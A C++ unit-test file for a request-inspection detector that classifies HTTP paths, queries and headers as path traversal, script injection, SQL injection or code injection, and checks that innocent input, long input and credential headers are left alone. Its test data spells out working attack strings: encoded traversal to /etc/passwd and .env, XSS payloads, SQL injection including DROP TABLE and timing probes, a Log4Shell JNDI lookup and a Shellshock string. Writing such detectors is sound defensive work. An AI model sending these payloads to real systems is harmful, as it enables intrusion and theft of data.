#include "auth/attack_signatures.hpp"

#include <gtest/gtest.h>

namespace papi::auth {
namespace {

TEST(Probe, knows_probes_through_encodings_case_and_comments) {
  const std::pair<const char*, std::string_view> probes[] = {
      {"/profile/../../etc/passwd", "path traversal"},
      {"/profile/..%2f..%2fetc%2fpasswd", "path traversal"},
      {"/profile/%2e%2e%2f", "path traversal"},
      {"/profile/%252e%252e%252fsecret", "path traversal"},
      {"/profile/%25252e%25252e%25252fsecret", "path traversal"},
      {"/profile/..%5c..%5cwindows", "path traversal"},
      {"/profile/%c0%ae%c0%ae%c0%af", "path traversal"},
      {"/profile/..;/admin", "path traversal"},
      {"/profile/x%00.jpg", "path traversal"},
      {"/profile/..", "path traversal"},
      {"/.env", "path traversal"},
      {"/.git/config", "path traversal"},
      {"q=<script>alert(1)</script>", "script injection"},
      {"q=%3CScRiPt%3Ealert(1)", "script injection"},
      {"q=%253Cscript%253E", "script injection"},
      {"q=<img src=x onerror=alert(1)>", "script injection"},
      {"q=%3Csvg/onload=alert(1)%3E", "script injection"},
      {"q=JaVaScRiPt:alert(1)", "script injection"},
      {"id=1' OR '1'='1", "SQL injection"},
      {"id=1%27%20or%201=1--", "SQL injection"},
      {"id=1+or+1%3D1", "SQL injection"},
      {"id=x') or ('a'='a", "SQL injection"},
      {"id=1 AND 1234=1234", "SQL injection"},
      {"id=1 UNION SELECT null,null", "SQL injection"},
      {"id=1/**/UnIoN/**/aLl/**/SeLeCt/**/1", "SQL injection"},
      {"id=1; DROP TABLE users", "SQL injection"},
      {"id=admin'--", "SQL injection"},
      {"id=1;SELECT pg_sleep(5)", "SQL injection"},
      {"id=RANDOMBLOB(500000000)", "SQL injection"},
      {"${jndi:ldap://x/a}", "code injection"},
      {"() { :;}; echo vulnerable", "code injection"},
  };
  for (const auto& [text, kind] : probes) {
    const auto found = attack_signature_in(text);
    EXPECT_EQ(found.value_or("nothing"), kind) << text;
  }
}

TEST(Probe, leaves_people_and_programs_alone) {
  const char* innocent[] = {
      "/profile/selecta_fan",
      "/profile/updater",
      "/profile/drop_the_bass",
      "/profile/union.jack",
      "/profile/a..b",
      "/profile/or1",
      "/profile/@script.kid",
      "/sessions/quiz-1:2/events",
      "after=100&types=comment,gift&contains=select+a+song+from+the+list",
      "contains=rock+and+roll",
      "contains=it's+on+me+or+you",
      "contains=this+or+that+%3D+fun",
      "contains='this'+or+that=fun",
      "contains=union+of+selected+artists",
      "contains=don%27t+drop+the+table",
      "contains=sleep+well",
      "contains=1+%2B+1+%3D+2",
      "contains=...+what%3F",
      "url=https%3A%2F%2Fwww.tiktok.com%2F%40host%2Flive",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
      "https://quiz.example/live/room?id=1",
      "permessage-deflate; client_max_window_bits",
      "W/\"0123456789abcdef\", \"x\"",
      "",
  };
  for (const char* text : innocent)
    EXPECT_FALSE(attack_signature_in(text)) << text << ": " << attack_signature_in(text).value_or("");
}

TEST(Probe, work_grows_with_the_length_only) {
  // No "/*" has an end here. If the code searched for the end of each one, this would take minutes.
  std::string comments;
  for (int i = 0; i < 400'000; ++i) comments += "/*";
  http::Request request;
  request.path = "/";
  for (int i = 0; i < 100; ++i) request.headers.push_back({"X-A", comments});
  EXPECT_FALSE(attack_signature_in(request));
}

TEST(Probe, looks_at_8_kib_of_a_request_and_through_three_layers_of_encoding) {
  const std::string sign = "<script";
  for (const std::size_t at : {8 * 1024 - sign.size(), 8 * 1024 - sign.size() + 1})
    EXPECT_EQ(attack_signature_in(std::string(at, 'a') + sign).has_value(), at + sign.size() <= 8 * 1024)
        << at;
  const std::string path = "/" + std::string(4'000, 'a'), query(4'000, 'b'),
                    header = std::string(8 * 1024 - path.size() - query.size() - sign.size(), 'c') + sign,
                    longer = path + "a";
  http::Request request;
  request.path = path;
  request.query = query;
  request.headers = {{"X-A", header}};
  EXPECT_EQ(attack_signature_in(request), "script injection") << "the last byte that is looked at";
  request.path = longer;
  EXPECT_FALSE(attack_signature_in(request));
  std::string layers = "<script";
  for (int depth = 0; depth < 5; ++depth) {
    EXPECT_EQ(attack_signature_in(layers).has_value(), depth <= 3) << depth;
    layers = "%" + std::string(depth == 0 ? "3C" : "25") + layers.substr(1);
  }
}

TEST(Probe, each_part_of_a_request_is_looked_at) {
  for (const int part : {0, 1, 2}) {
    http::Request request;
    request.path = part == 0 ? "/profile/..%2f" : "/profile/ann";
    if (part == 1) request.query = "q=1' or '1'='1";
    if (part == 2) request.headers = {{"Accept", "*/*"}, {"User-Agent", "${jndi:ldap://x}"}};
    const std::string_view kinds[] = {"path traversal", "SQL injection", "code injection"};
    EXPECT_EQ(attack_signature_in(request), kinds[part]);
  }
}

TEST(Probe, looks_at_every_field_but_credentials) {
  http::Request request;
  request.path = "/profile/ann";
  request.headers = {{"User-Agent", "sqlmap"}, {"Authorization", "Bearer ' or '1'='1"}, {"X-API-Key", "../"}};
  EXPECT_FALSE(attack_signature_in(request));
  request.headers.push_back({"Referer", "http://x/?q=%3Cscript%3E"});
  EXPECT_EQ(attack_signature_in(request), "script injection");
}

}  // namespace
}  // namespace papi::auth
